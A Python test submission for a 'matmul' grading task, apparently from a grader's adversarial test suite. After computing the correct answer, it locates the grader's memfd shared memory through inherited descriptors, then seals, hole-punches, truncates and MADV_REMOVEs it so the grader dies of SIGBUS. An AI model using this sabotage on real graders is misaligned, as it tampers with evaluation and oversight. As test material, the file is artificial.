"""Truncates, punches and seals the shared memory that the grader reads, so that the grader dies of SIGBUS.

covers = ["inherited descriptors"]
task = "matmul"
verdict = ["ACCEPTED", "WRONG_ANSWER", "RUNTIME_ERROR"]
"""

import ctypes
import fcntl
import os

libc = ctypes.CDLL(None, use_errno=True)


def shared():
    yield from (f"/proc/self/fd/{name}" for name in os.listdir("/proc/self/fd"))
    for line in open("/proc/self/maps"):
        if "memfd" in line or "deleted" in line:
            yield "/proc/self/map_files/" + line.split()[0]


def matmul(a, b):
    answer = a @ b
    for path in shared():
        try:
            if "memfd" not in os.readlink(path):
                continue
            descriptor = os.open(path, os.O_RDWR)
        except OSError:
            continue
        for seal in (0x1, 0x2, 0x4, 0x8, 0x10):
            try:
                fcntl.fcntl(descriptor, 1033, seal)
                print("attack-won: sealed the grader's buffer")
            except OSError:
                pass
        libc.fallocate(descriptor, 3, ctypes.c_long(0), ctypes.c_long(1 << 20))  # punch a hole
        for size in (0, 1 << 30):
            try:
                os.ftruncate(descriptor, size)
                print("attack-won: changed the size of the grader's buffer")
            except OSError:
                pass
    for line in open("/proc/self/maps"):
        if "memfd" in line:
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            libc.madvise(ctypes.c_void_p(start), ctypes.c_size_t(end - start), 9)  # MADV_REMOVE
    return answer
